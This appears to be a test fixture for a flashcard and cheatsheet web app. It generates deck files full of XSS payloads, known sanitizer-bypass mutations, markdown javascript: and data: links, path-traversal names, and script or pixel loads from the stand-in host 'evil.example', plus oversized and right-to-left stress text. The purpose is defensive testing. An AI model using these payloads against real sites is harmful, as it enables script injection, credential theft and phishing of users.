import { deckFile } from '../../support/content.js'

/** A host that does not exist and must never be requested */
const ELSEWHERE = 'evil.example'

/** JavaScript that sets a global variable, so that a test can detect its execution */
const RUN = 'window.hit=1'

/** HTML attacks: plain payloads, and mutations that have bypassed sanitizers */
const HTML = [
  `<script>${RUN}</script>`,
  `<script src="https://${ELSEWHERE}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://${ELSEWHERE}/pixel.png" srcset="https://${ELSEWHERE}/2.png 2x">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script><use href="https://${ELSEWHERE}/x.svg#a"/></svg>`,
  `<base href="https://${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="https://${ELSEWHERE}/x.css">`,
  '<style>*{display:none!important}</style>',
  `<div style="position:fixed;inset:0;background:url(https://${ELSEWHERE}/bg.png)">zu</div>`,
  `<form action="https://${ELSEWHERE}/"><input name="body" autofocus onfocus="${RUN}"><button>Anmelden</button></form>`,
  `<iframe src="https://${ELSEWHERE}/"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="https://${ELSEWHERE}/x.swf">`,
  `<video poster="https://${ELSEWHERE}/p.png"><source onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}"><summary>auf</summary></details>`,
  `<a href="javas&#99;ript:${RUN}" onclick="${RUN}">a</a>`,
  '<x id="app"></x><x id="inhalt" name="getElementById"></x><form id="document" name="body"><input name="attributes"></form>',
  '<dialog open>Bitte Passwort eingeben</dialog><template><script>window.hit=1</script></template>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<select><template><style><!--</style><a title="--><img src=x onerror=${RUN}>"></a></template></select>`,
  `<p id="</title><img src=x onerror=${RUN}>"><plaintext>`,
]

const MARKDOWN = [
  `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](&#106;avascript:${RUN}) [d](java%0ascript:${RUN})`,
  `[e](data:text/html,<script>${RUN}</script>) [f](vbscript:${RUN}) [g](blob:https://${ELSEWHERE}/x) [h](file:///etc/passwd)`,
  `<javascript:${RUN}> <https://${ELSEWHERE}/auto> <data:text/html,x>`,
  `[draußen](https://${ELSEWHERE}/x "Titel \\" onmouseover=${RUN}") [ohne Schema](//${ELSEWHERE}/y) [Post](mailto:a@${ELSEWHERE})`,
  `[Schrägstriche](\\\\\\\\${ELSEWHERE}) [leer]() [Sprung](#ziel) [hierher](decks)`,
  `![Bild](https://${ELSEWHERE}/pixel.png) ![ohne Schema](//${ELSEWHERE}/p.png) ![js](javascript:${RUN})`,
  `![daten](data:image/svg+xml,<svg/onload=${RUN}>) ![](https://${ELSEWHERE}/leer.png)`,
  `[![im Link](https://${ELSEWHERE}/im-link.png)](https://${ELSEWHERE}/link) [a [b](https://${ELSEWHERE}/b)](javascript:${RUN})`,
  `[Verweis] und ![Verweisbild][bild] und [^1]\n\n[Verweis]: javascript:${RUN}\n[bild]: https://${ELSEWHERE}/ref.png\n[^1]: <img src=x onerror=${RUN}>`,
  '```js" onmouseover="window.hit=1\nkonsole()\n```',
  '```js&#32;visually-hidden&#32;still-waiting\nkonsole()\n```',
  `\`\`\`html\n<img src=x onerror=${RUN}><script>${RUN}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
]

const WORD = 'Donaudampfschifffahrt'.repeat(480)
const COLUMNS = Array.from({ length: 60 }, (_, at) => `Spalte ${at}`)

/** Wide, deep and right-to-left texts */
const SHAPES = [
  WORD,
  `**${WORD}** \`${WORD}\` [${WORD}](https://${ELSEWHERE}/${WORD})`,
  `| ${COLUMNS.join(' | ')} |\n|${'---|'.repeat(60)}\n| ${COLUMNS.map(() => WORD.slice(0, 300)).join(' | ')} |`,
  `\`\`\`\n${WORD}\n\`\`\``,
  '\u202Everkehrt herum\u2066 und weiter \u2067ohne Ende',
  'مرحبا بالعالم، هذا نص عربي طويل. שלום עולם',
  `Null\u200Bbreit\uFEFF\u2060 und a${'\u0301'.repeat(300)} Zalgo`,
  `${'> '.repeat(60)}tief`,
  Array.from({ length: 30 }, (_, at) => `${'  '.repeat(at)}- Ebene ${at}`).join('\n'),
  `# ${WORD}\n\n#### ziel\n\n#### ziel-2\n\n#### ziel\n\n#### app`,
]

export const HOSTILE_NAME = `<img src=x onerror=${RUN}>\u05D0"'&lt;${'ü'.repeat(60)}`
export const HOSTILE_SLUG = 'böse/..\\ ?q=<script>#&"\'%2e%'
const CATEGORY = `<svg onload=${RUN}> \u05D0${'Kategorie'.repeat(20)}`

const inOneLine = (text: string) => text.replaceAll('\n', ' ').replaceAll(/\\$/g, '')

/**
 * Returns the files of a deck and a sheet with all payloads, and of very long content. In the deck, each payload is the
 * question and the answer of a separate card.
 */
export function hostileFiles(): Record<string, string> {
  const all = [...HTML, ...MARKDOWN, ...SHAPES]
  const cards = all.map((text, at) => ({ id: `karte-${at}`, question: inOneLine(text), answer: text }))
  const head = { description: HTML.join(' '), slug: HOSTILE_SLUG }
  const sheet = (title: string, body: string) => `---\n${JSON.stringify({ title, category: CATEGORY })}\n---\n${body}\n`
  const long = `## Abschnitt\n\nEin Absatz mit **Auszeichnung** und \`Code\`, der nicht aufhört.\n\n- eins\n- zwei\n\n`
  return {
    'decks/boese.md': deckFile(HOSTILE_NAME, cards, head),
    'decks/lang.md': deckFile(WORD.slice(0, 5_000), [{ id: 'lang', question: WORD, answer: WORD }]),
    'cheatsheets/boese.md': sheet(
      HOSTILE_NAME,
      [HTML, MARKDOWN, SHAPES].map((group) => `## Teil\n\n${group.join('\n\n')}`).join('\n\n'),
    ),
    'cheatsheets/lang.md': sheet('Ein Megabyte', long.repeat(Math.ceil(1_000_000 / long.length))),
    'cheatsheets/verweise.md': sheet('Verweise', '# [a]\n\n[a]: b\n\n'.repeat(10_000)),
  }
}
